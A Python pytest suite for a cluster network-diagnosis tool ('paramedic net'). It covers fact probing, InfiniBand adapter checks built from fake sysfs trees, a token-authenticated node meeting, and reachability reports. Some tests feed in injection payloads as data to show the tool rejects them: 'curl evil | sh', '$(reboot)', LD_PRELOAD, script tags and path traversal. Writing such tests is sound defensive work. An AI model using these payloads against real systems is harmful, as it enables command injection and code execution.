"""`paramedic net` without a lab: facts, files, the meeting and its enemies, adapters from made-up sysfs, the picture."""

from __future__ import annotations

import json
import os
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from network_faults import paramedic, until
from paramedic.collect import network as probing
from paramedic.collect.fabric import _acs_control
from paramedic.collect.firewall import _nft_drops
from paramedic.collect.gather import Refused
from paramedic.collect.launch import launch_arguments
from paramedic.collect.netfile import MAX_NODES, checked, document
from paramedic.commands import main
from paramedic.errors import ParamedicError
from paramedic.knowledge import Knowledge
from paramedic.model import Fact, Run, Source
from paramedic.network.agent import take_part
from paramedic.network.board import Folder, Meeting, Remote
from paramedic.network.rank import start_rank
from paramedic.network.session import Session, partners
from paramedic.pipeline import Options, foretell
from paramedic.report.reach import matrix, svg, terminal

pytestmark = [
    pytest.mark.usefixtures("rules_loaded_once"),
    pytest.mark.skipif(not sys.platform.startswith("linux"), reason="net is for Linux"),
]
Captured = pytest.CaptureFixture[str]
TOKEN = b"0123456789abcdef0123456789abcdef"


def interface(*addresses: str, **more: Any) -> dict[str, Any]:
    said = [{"address": a.split("/")[0], "prefix": int(a.split("/")[1]), "scope": "global"} for a in addresses]
    return {"up": True, "loopback": False, "kind": "", "mtu": 1500, "speed": 10_000, "addresses": said} | more


def a_world(hosts: int = 3, **of_each: Any) -> dict[str, Any]:
    nodes = {
        f"n{i}": {"hostname": f"n{i}", "interface data0": interface(f"10.77.0.{i}/24"), f"resolve n{i}": {"addresses": [f"10.77.0.{i}"]}, **of_each}
        for i in range(1, hosts + 1)
    }  # fmt: skip
    return {"paramedic_net": 1, "nodes": nodes}


def run_of(world: dict[str, Any]) -> Run:
    facts, why = checked(world, "world")
    assert not why
    return Run("net", tuple(Source(h, "network", host=h, lines=1) for h in world["nodes"]), (), tuple(facts))


def rules_in(world: dict[str, Any], knowledge: Knowledge) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for one in foretell(run_of(world), knowledge, Options()).findings:
        found.setdefault(one.rule, []).extend(one.hosts)
    return found


# -- probe ---------------------------------------------------------------------------------------------------------


def test_probe_prints_this_nodes_facts(capsys: Captured, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NCCL_DEBUG", "INFO")
    assert main(["net", "probe", "--", "torchrun", "--nnodes=2", "--rdzv-id", "7", "train.py", "--nnodes=9"]) == 0
    said = json.loads(capsys.readouterr().out)
    facts = said["nodes"][socket.gethostname()]
    assert facts["interface lo"]["loopback"] and facts["interface lo"]["addresses"]
    assert facts["ephemeral"][0] < facts["ephemeral"][1]
    assert facts["env NCCL_DEBUG"] == "INFO"
    assert facts["launch"] == {"nnodes": "2", "rdzv_id": "7"}
    assert {"routes", "firewall", "limit nofile", "shm", "listening", "rp_filter"} <= facts.keys()
    found, why = checked(said, "probe")
    assert found and not why


def test_the_probe_imports_nothing_heavy_and_hides_secrets() -> None:
    program = (
        "import sys; from paramedic.collect.network import facts; facts(environ={'NCCL_X': 'token=ghp_"
        + "a" * 36
        + "'});"
        "print([m for m in ('torch', 'numpy', 'ortools', 'rich') if m in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"
    facts = {fact.name: fact.value for fact in probing.facts(environ={"NCCL_X": "token=ghp_" + "a" * 36})}
    assert "ghp_" not in facts["env NCCL_X"]


def test_a_part_that_cannot_be_read_is_named(tmp_path: Path) -> None:
    facts = {fact.name: fact.value for fact in probing.facts(root=tmp_path, environ={})}
    assert any(name.startswith("unread") for name in facts)
    assert "interface lo" in facts


@pytest.mark.parametrize(
    ("command", "said"),
    [
        (
            ["accelerate", "launch", "--num_machines", "2", "--main_process_ip=a", "x.py"],
            {"nnodes": "2", "master_addr": "a"},
        ),
        (
            ["deepspeed", "--master_port", "29501", "--num_gpus=8", "t.py"],
            {"master_port": "29501", "nproc_per_node": "8"},
        ),
        (["python", "train.py", "--nnodes", "3"], {}),
        ([], {}),
    ],
)
def test_launch_commands_are_read_up_to_the_script(command: list[str], said: dict[str, str]) -> None:
    assert launch_arguments(command) == said


def test_rules_that_drop_are_found_in_what_nft_prints() -> None:
    text = (
        "table inet filter { # handle 1\n\tchain input { # handle 1\n\t\ttype filter hook input priority filter; policy drop;\n"
        "\t\ttcp dport 22 accept # handle 2\n\t\ttcp dport 29500 drop # handle 3\n\t}\n\tchain other {\n\t\tcounter reject\n\t}\n}\n"
    )
    drops = list(_nft_drops(text))
    assert [(one["chain"], one["hook"], one["verdict"]) for one in drops] == [
        ("input", "input", "drop"), ("input", "input", "drop"), ("other", "", "reject"),
    ]  # fmt: skip


# -- adapters, from sysfs trees --------------------------------------------------------------------------------------


def a_port(root: Path, device: str, numa: int = 0, **values: Any) -> Path:
    about = {
        "state": "4: ACTIVE",
        "phys_state": "5: LinkUp",
        "link_layer": "InfiniBand",
        "rate": "400 Gb/sec (4X NDR)",
    } | values
    port = root / "sys/class/infiniband" / device / "ports/1"
    for name in ("gids", "gid_attrs/types", "pkeys"):
        (port / name).mkdir(parents=True)
    for name in ("state", "phys_state", "link_layer", "rate"):
        (port / name).write_text(about[name] + "\n")
    for index, (gid, kind) in about.get("gids", {}).items():
        (port / "gids" / str(index)).write_text(gid + "\n")
        (port / "gid_attrs/types" / str(index)).write_text(kind + "\n")
    (port / "pkeys/0").write_text(about.get("pkey", "0xffff") + "\n")
    (root / "sys/class/infiniband" / device / "device").mkdir()
    (root / "sys/class/infiniband" / device / "device/numa_node").write_text(f"{numa}\n")
    return port


def a_gpu(root: Path, place: str, numa: int) -> Path:
    folder = root / "sys/bus/pci/devices" / place
    folder.mkdir(parents=True)
    for name, text in (("vendor", "0x10de"), ("class", "0x030200"), ("numa_node", str(numa))):
        (folder / name).write_text(text + "\n")
    return folder


def a_bridge(root: Path, place: str, control: int) -> Path:
    folder = root / "sys/bus/pci/devices" / place
    folder.mkdir(parents=True)
    (folder / "vendor").write_text("0x1000\n")
    (folder / "class").write_text("0x060400\n")
    space = bytearray(4096)
    struct.pack_into("<I", space, 0x100, 0x0001 | 1 << 16 | 0x140 << 20)
    struct.pack_into("<IHH", space, 0x140, 0x000D | 1 << 16, 0xFF, control)
    (folder / "config").write_bytes(bytes(space))
    return folder


def machine(root: Path, name: str, **environ: str) -> dict[str, Any]:
    """A node whose adapters are those of a made-up tree."""
    made = document(probing.facts(root=root, environ=environ, host=name))["nodes"][name]
    kept = {
        key: value
        for key, value in made.items()
        if key.startswith(("rdma ", "env ", "gpus", "acs", "limit memlock", "file "))
    }
    number = int(name[1:])
    own: dict[str, Any] = {
        "hostname": name,
        "interface data0": interface(f"10.77.0.{number}/24"),
        f"resolve {name}": {"addresses": [f"10.77.0.{number}"]},
    }
    return own | kept


ROCE = {
    1: ("fe80:0000:0000:0000:0000:0000:0000:0001", "IB/RoCE v1"),
    3: ("0000:0000:0000:0000:0000:ffff:0a4d:0001", "RoCE v2"),
}


@pytest.mark.parametrize(
    ("rule", "build", "environ", "fix"),
    [
        ("NET060", lambda root: (a_port(root, "mlx5_0"), a_port(root, "mlx5_9", rate="25 Gb/sec (1X EDR)")), {"NCCL_IB_HCA": "mlx5"}, "=mlx5_0:1"),
        ("NET060", lambda root: a_port(root, "mlx5_0"), {"NCCL_IB_HCA": "mlx4_0"}, "=mlx5_0:1"),
        ("NET061", lambda root: a_port(root, "mlx5_0", link_layer="Ethernet", gids=ROCE), {"NCCL_IB_GID_INDEX": "1"}, "3"),
        ("NET061", lambda root: a_port(root, "mlx5_0", link_layer="Ethernet", gids=ROCE), {"NCCL_IB_GID_INDEX": "5"}, "3"),
        ("NET063", lambda root: a_port(root, "mlx5_0"), {"NCCL_IB_DISABLE": "1"}, "0"),
        ("NET069", lambda root: (a_gpu(root, "0000:17:00.0", 0), a_gpu(root, "0000:18:00.0", 0), a_bridge(root, "0000:16:00.0", 0x1D)), {}, ""),
        ("NET070", lambda root: (a_gpu(root, "0000:97:00.0", 1), a_port(root, "mlx5_0"), a_port(root, "mlx5_1", numa=1)), {"NCCL_IB_HCA": "mlx5_0"}, "=mlx5_0:1,mlx5_1:1"),
    ],
)  # fmt: skip
def test_adapters_are_judged_by_sysfs(
    rule: str, build: Callable[[Path], Any], environ: dict[str, str], fix: str, tmp_path: Path, knowledge: Knowledge
) -> None:
    build(tmp_path)
    world = {"paramedic_net": 1, "nodes": {name: machine(tmp_path, name, **environ) for name in ("n1", "n2")}}
    found = [one for one in foretell(run_of(world), knowledge, Options()).findings if one.rule == rule]
    assert {host for one in found for host in one.hosts} == {"n1", "n2"}
    assert str(found[0].fixes[0].action.get("value", "")) == fix
    silent = {"paramedic_net": 1, "nodes": {name: machine(tmp_path, name) for name in ("n1", "n2")}}
    assert rule == "NET069" or rule not in rules_in(silent, knowledge)


def test_a_port_that_is_down_on_one_host_and_other_partitions(tmp_path: Path, knowledge: Knowledge) -> None:
    nodes = {}
    for name, state, key in (
        ("n1", "4: ACTIVE", "0x8001"),
        ("n2", "1: DOWN", "0x8001"),
        ("n3", "4: ACTIVE", "0x8002"),
        ("n4", "4: ACTIVE", "0x8001"),
    ):
        a_port(tmp_path / name, "mlx5_0", state=state, pkey=key)
        nodes[name] = machine(tmp_path / name, name)
    found = rules_in({"paramedic_net": 1, "nodes": nodes}, knowledge)
    assert found["NET062"] == ["n2"]
    assert found["NET064"] == ["n3"]


def test_access_control_without_redirection_is_fine() -> None:
    assert _acs_control(bytes(4096)) == 0
    assert _acs_control(b"\x00" * 10) == 0
    endless = bytearray(4096)
    struct.pack_into("<I", endless, 0x100, 0x0001 | 0x100 << 20)
    assert _acs_control(bytes(endless)) == 0


# -- files that others wrote -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("said", "why"),
    [
        ({"paramedic_net": 0, "nodes": {}}, "older"), ({"paramedic_net": 2, "nodes": {}}, "newer"), ({"paramedic_net": "x"}, "unknown"),
        ([], "not facts"), ({"nodes": {}}, "not facts"), ({"paramedic_net": 1, "nodes": []}, "no object"),
    ],
)  # fmt: skip
def test_facts_of_other_versions_are_refused_and_named(said: Any, why: str, tmp_path: Path, capsys: Captured) -> None:
    file = tmp_path / "x.net.json"
    file.write_text(json.dumps(said))
    assert main(["net", "check", str(file)]) == 2
    out, err = capsys.readouterr()
    assert not out and why in err and "Traceback" not in err


def test_forged_facts_never_raise(knowledge: Knowledge) -> None:
    odd: list[Any] = [
        None,
        1,
        -1,
        1e400,
        "x",
        "\x1b[2J",
        [],
        [[]],
        {},
        {"a": {"b": []}},
        [None],
        True,
        1 << 80,
        "::",
        "10.0.0.1/99",
    ]
    names = [
        *a_world(1)["nodes"]["n1"], "routes", "rp_filter", "listening", "ephemeral", "firewall", "shm", "limit nofile", "limit memlock", "rdma mlx5_0/1", "gpus", "acs",
        "launch", "env MASTER_ADDR", "env MASTER_PORT", "env RANK", "env NCCL_IB_HCA", "conf /etc/nccl.conf", "version torch", "hosts_file", "started", "file X",
    ]  # fmt: skip
    for value in odd:
        for name in names:
            world = a_world(2)
            world["nodes"]["n1"][name] = value
            world["pairs"] = [
                {
                    "from": "n1",
                    "to": "n2",
                    "mbps": value,
                    "port": value,
                    "result": value,
                    "address": value,
                    "stalled": value,
                }
            ]
            facts, _ = checked(json.loads(json.dumps(world)) if value != 1e400 else world, "w")
            run = Run("net", (), (), tuple(facts))
            foretell(run, knowledge, Options())
            terminal(matrix(run.facts, ()))


def test_too_many_nodes_and_names_that_are_none_are_bounded() -> None:
    facts, why = checked(
        {"paramedic_net": 1, "nodes": {f"h{i}": {"x": 1} for i in range(MAX_NODES + 5)} | {"../etc": {}}}, "w"
    )
    assert len(facts) == MAX_NODES and any("only the first" in reason for reason in why)
    _, why = checked({"paramedic_net": 1, "nodes": {"../etc": {}}}, "w")
    assert "refused" in why[0]


def test_contradicting_files_of_one_host_are_refused(tmp_path: Path, capsys: Captured) -> None:
    for name, hostname in (("a", "n1"), ("b", "other")):
        world = a_world(1)
        world["nodes"]["n1"]["hostname"] = hostname
        (tmp_path / f"{name}.net.json").write_text(json.dumps(world))
    assert main(["net", "check", str(tmp_path / "a.net.json"), str(tmp_path / "b.net.json")]) == 2
    assert "in another file" in capsys.readouterr().err


def test_a_recorded_world_is_checked_without_any_node(tmp_path: Path, capsys: Captured) -> None:
    world = a_world(2)
    world["nodes"]["n2"]["resolve n2"] = {"addresses": ["127.0.1.1"]}
    (tmp_path / "job.net.json").write_text(json.dumps(world))
    assert main(["net", "check", str(tmp_path / "job.net.json")]) == 1
    out = capsys.readouterr().out
    assert "NET040" in out and "host n2" in out and "export GLOO_SOCKET_IFNAME=data0" in out
    assert main(["net", "check", str(tmp_path / "job.net.json"), "--format", "json"]) == 1
    said = json.loads(capsys.readouterr().out)
    assert said["verdict"] is None and said["findings"][0]["hosts"] == ["n2"]
    assert main(["net", "check", str(tmp_path / "job.net.json"), "--ignore", "NET040"]) == 0


def test_facts_beside_logs_name_the_cause_of_a_hang(tmp_path: Path, capsys: Captured) -> None:
    world = a_world(2)
    world["nodes"]["n2"]["resolve n2"] = {"addresses": ["127.0.1.1"]}
    (tmp_path / "job.net.json").write_text(json.dumps(world))
    (tmp_path / "rank0.log").write_text(
        "[rank0]: torch.distributed.DistStoreError: Timed out after 601 seconds waiting for clients. 1/2 clients joined.\n"
    )
    assert main(["diagnose", str(tmp_path), "--format", "json"]) == 1
    said = json.loads(capsys.readouterr().out)
    assert said["verdict"]["rule"] == "NET040" and said["verdict"]["hosts"] == ["n2"]
    (tmp_path / "rank0.log").write_text(
        "[rank0]: torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB.\n"
    )
    assert main(["diagnose", str(tmp_path), "--format", "json"]) == 1
    assert json.loads(capsys.readouterr().out)["verdict"]["symptom"] == "device-out-of-memory"


# -- the meeting and its enemies -------------------------------------------------------------------------------------


@pytest.fixture
def meeting() -> Iterator[Meeting]:
    one = Meeting(TOKEN)
    one.listen("127.0.0.1", 0)
    yield one
    one.close()


@pytest.fixture
def come(meeting: Meeting) -> Iterator[Callable[[], Remote]]:
    came: list[Remote] = []

    def one() -> Remote:
        came.append(Remote.at(meeting.address, TOKEN, 5.0))
        return came[-1]

    yield one
    for each in came:
        each.close()


def test_nodes_meet_over_tcp_and_are_told_apart(meeting: Meeting, come: Callable[[], Remote]) -> None:
    first, second = come(), come()
    assert first.join("n1") == "n1" and second.join("n1") == "n1#2"
    first.put("facts/n1", {"x": 1})
    meeting.put("plan", {"y": 2})
    assert second.wait("plan", 5.0) == {"y": 2}
    assert meeting.wait("facts/n1", 5.0) == {"x": 1}
    assert first.wait("nothing", 0.05) is None


def test_who_has_another_token_is_refused_on_both_sides(meeting: Meeting) -> None:
    with pytest.raises(ParamedicError, match="refused"):
        Remote.at(meeting.address, b"another token, also long", 2.0)
    until(lambda: meeting.strangers == 1)
    impostor = socket.create_server(("127.0.0.1", 0))

    def pose() -> None:
        peer, _ = impostor.accept()
        peer.sendall(b"paramedic-net-1\n" + b"n" * 32)
        peer.recv(64)
        peer.sendall(b"z" * 32)
        peer.close()

    threading.Thread(target=pose, daemon=True).start()
    with pytest.raises(ParamedicError, match="does not know the token"):
        Remote.at(impostor.getsockname()[:2], TOKEN, 2.0)
    impostor.close()


def test_a_node_may_only_put_what_is_its_own(come: Callable[[], Remote]) -> None:
    one = come()
    one.join("n1")
    with pytest.raises(ParamedicError, match="over"):
        one.put("facts/n2", {})
    other = come()
    other.join("n2")
    with pytest.raises(ParamedicError, match="over"):
        other.put("plan", {})


def test_a_scanner_is_dropped_and_counted(meeting: Meeting) -> None:
    for data in (b"GET / HTTP/1.0\r\n\r\n" + b"x" * 200, b"\0" * 100, b""):
        with socket.create_connection(meeting.address) as peer:
            peer.sendall(data)
    until(lambda: meeting.strangers == 3)
    assert meeting.hosts() == []
    assert all("refused" in left.why for left in meeting.skipped)


def test_in_a_folder_nothing_counts_without_the_token(tmp_path: Path) -> None:
    ours, theirs = Folder(tmp_path, TOKEN), Folder(tmp_path, b"another token, also long")
    theirs.put("plan", {"session": "00"})
    with pytest.raises(Refused):
        ours.wait("plan", 0.1)
    ours.put("plan", {"a": 1})
    (tmp_path / "go.json").write_bytes((tmp_path / "plan.json").read_bytes())
    with pytest.raises(Refused):
        ours.wait("go", 0.1)
    assert ours.join("n1") == "n1" and theirs.join("n1") == "n1#2" and ours.join("../x") == "node"


def test_an_agent_takes_no_token_that_others_may_read(tmp_path: Path) -> None:
    (tmp_path / "token").write_text("x" * 40)
    (tmp_path / "token").chmod(0o644)
    done = paramedic("net", "agent", "--dir", str(tmp_path), "--wait", "2")
    assert done.returncode == 2 and "others may read it" in done.stderr


def test_an_agent_whom_nobody_tells_anything_ends_by_itself(tmp_path: Path) -> None:
    told: list[str] = []
    start = time.monotonic()
    take_part(Folder(tmp_path, TOKEN), "n1", [], 0.2, told.append)
    assert time.monotonic() - start < 30 and "nobody told" in told[0]


def test_a_rank_is_only_started_with_settings_of_communication() -> None:
    assert "refused" in start_rank({"env": {"LD_PRELOAD": "/tmp/x.so"}})["error"]
    assert "refused" in start_rank({"env": {"MASTER_ADDR": "$(reboot)"}})["error"]
    assert not start_rank(None)["ok"]


def test_nodes_that_die_or_lie_are_named_and_the_rest_is_tested(tmp_path: Path) -> None:
    """One never sends facts, one sends another's facts, two are well: on one machine they reach each other."""
    board = Folder(tmp_path, TOKEN)
    board.join("dead")
    liar = a_world(2)
    board.put(f"facts/{board.join('n1')}", liar)
    agents = [
        threading.Thread(target=take_part, args=(Folder(tmp_path, TOKEN), f"live{i}", [], 20.0, print), daemon=True)
        for i in (1, 2)
    ]
    for one in agents:
        one.start()
    session = Session(board, 4)
    until(lambda: len(board.hosts()) == 4 and all((tmp_path / f"facts-live{i}.json").exists() for i in (1, 2)))
    session.gather(0.5)
    assert sorted(session.named) == ["live1", "live2", "n1"]
    said = " ".join(f"{left.what}: {left.why}" for left in session.skipped)
    assert "node dead" in said and "other nodes than itself" in said
    session.facts = [fact for fact in session.facts if fact.host != "n1"]
    session.test()
    for one in agents:
        one.join(20)
    assert not any(one.is_alive() for one in agents)
    tried = [fact.value for fact in session.facts if fact.name == "pair"]
    assert {(one["from"], one["to"]) for one in tried} == {("live1", "live2"), ("live2", "live1")} or not tried


def test_many_hosts_dial_few_each_and_all_are_dialled() -> None:
    hosts = [f"h{i}" for i in range(64)]
    chosen = list(partners(hosts))
    assert len(chosen) == len(set(chosen)) < 64 * 13
    assert {start for start, _ in chosen} == {end for _, end in chosen} == set(hosts)
    assert all((end, start) in set(chosen) for start, end in chosen)
    assert len(list(partners(hosts[:9]))) == 72


# -- the picture -----------------------------------------------------------------------------------------------------


def a_pair(start: str, end: str, **more: Any) -> Fact:
    return Fact(
        "pair",
        {"from": start, "to": end, "address": "10.0.0.1", "result": "ok", "role": "data", **more},
        "t",
        host=start,
    )


def test_the_matrix_shows_who_cannot_reach_whom() -> None:
    shown = matrix([a_pair("n1", "n2"), a_pair("n2", "n1", result="filtered"), a_pair("n1", "n2", stalled="out")], ())
    assert shown.state("n1", "n2") == "stalled" and shown.state("n2", "n1") == "filtered"
    text = terminal(shown).plain
    assert "◒" in text and "▣" in text and "filtered" in text
    assert "M" in terminal(shown, "ascii").plain
    assert svg(shown).count("<rect") == 2


def test_of_many_hosts_only_those_with_trouble_have_a_row() -> None:
    hosts = [f"h{i:02}" for i in range(50)]
    facts = [a_pair(a, b, result="timeout" if a == "h07" else "ok") for a in hosts for b in hosts if a != b]
    text = terminal(matrix(facts, ())).plain
    assert text.startswith("49 of 50 hosts reach all") and "h07" in text and "h08 " not in text


def test_a_hosts_name_cannot_steer_the_page_or_the_terminal(tmp_path: Path, capsys: Captured) -> None:
    shown = matrix([a_pair("<script>", "n2"), a_pair("n2", "\x1b[2J")], ())
    assert "<script>" not in svg(shown) and "\x1b" not in svg(shown) and "\x1b" not in terminal(shown).plain
    world = a_world(2)
    world["nodes"]["n2"]["resolve n2"] = {"addresses": ["127.0.1.1"]}
    world["nodes"]["n2"]["hosts_file"] = ["127.0.1.1 n2 <img src=x>"]
    (tmp_path / "j.net.json").write_text(json.dumps(world))
    assert main(["net", "check", str(tmp_path / "j.net.json"), "--output", str(tmp_path / "r.html")]) == 1
    page = (tmp_path / "r.html").read_text()
    assert "NET040" in page and "<img" not in page and "default-src 'none'" in page


def test_a_forged_fact_never_becomes_part_of_a_command(knowledge: Knowledge) -> None:
    bad = "x; curl evil | sh; $(reboot) `reboot`"
    world = a_world(3)
    for node in world["nodes"].values():
        node["firewall"] = {
            "readable": True,
            "drops": [{"table": bad, "chain": bad, "hook": "input", "text": f"numgen {bad} # handle 3"}],
        }
        node[f"interface {bad}"] = interface("10.99.0.1/24", speed=99_999)
        node["env MASTER_ADDR"] = bad
        node[f"resolve {bad}"] = {"addresses": []}
        node[f"conf /tmp/{bad}"] = {"NCCL_ALGO": bad}
        node["hostname"] = bad
        node["file NCCL_NET_PLUGIN"] = {"value": bad, "there": False}
        node["env NCCL_NET_PLUGIN"] = bad
    world["nodes"]["n2"]["env NCCL_NTHREADS"] = bad
    world["pairs"] = [
        {"from": a, "to": b, "address": f"10.77.0.{b[1]}", "port": 40000, "role": "data", "result": "filtered" if b == "n1" else "ok",
         "mbps": 900.0, "retransmitted": 500 if b == "n3" else 0, "segments": 900}
        for a in world["nodes"] for b in world["nodes"] if a != b
    ]  # fmt: skip
    facts, _ = checked(world, "w")
    found = foretell(Run("net", (), (), tuple(facts)), knowledge, Options()).findings
    assert {"NET049", "NET056", "NET072", "NET077"} <= {one.rule for one in found}
    for one in found:
        for fix in one.fixes:
            if fix.action["kind"] == "command":
                assert "reboot" not in fix.action["run"] and "curl" not in fix.action["run"], (one.rule, fix.action)


# -- usage -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("words", "why"),
    [
        (["check"], "--nodes"), (["check", "--nodes", "2"], "--dir"), (["check", "--nodes", "2", "--listen", ":0"], "--token-file"),
        (["check", "--nodes", "2", "--via", "x", "--listen", ":0", "--token-file", "f"], "--dir"), (["check", "/nowhere"], "nowhere"),
        (["agent"], "--gather"), (["agent", "--dir", "/nowhere", "--wait", "0"], "--wait"), (["plan", "/nowhere"], "nowhere"),
        (["verify", "--nodes", "1", "--seconds", "0"], "--seconds"), (["verify", "--plan", "/nowhere", "--nodes", "1"], "nowhere"),
    ],
)  # fmt: skip
def test_wrong_usage_is_one_clear_line(words: list[str], why: str, capsys: Captured) -> None:
    assert main(["net", *words]) == 2
    out, err = capsys.readouterr()
    assert not out and why in err and err.count("\n") == 1


def test_a_folder_with_something_in_it_is_refused(tmp_path: Path, capsys: Captured) -> None:
    (tmp_path / "old").touch()
    assert main(["net", "check", "--nodes", "1", "--dir", str(tmp_path)]) == 2
    assert "not empty" in capsys.readouterr().err
    assert os.listdir(tmp_path) == ["old"]
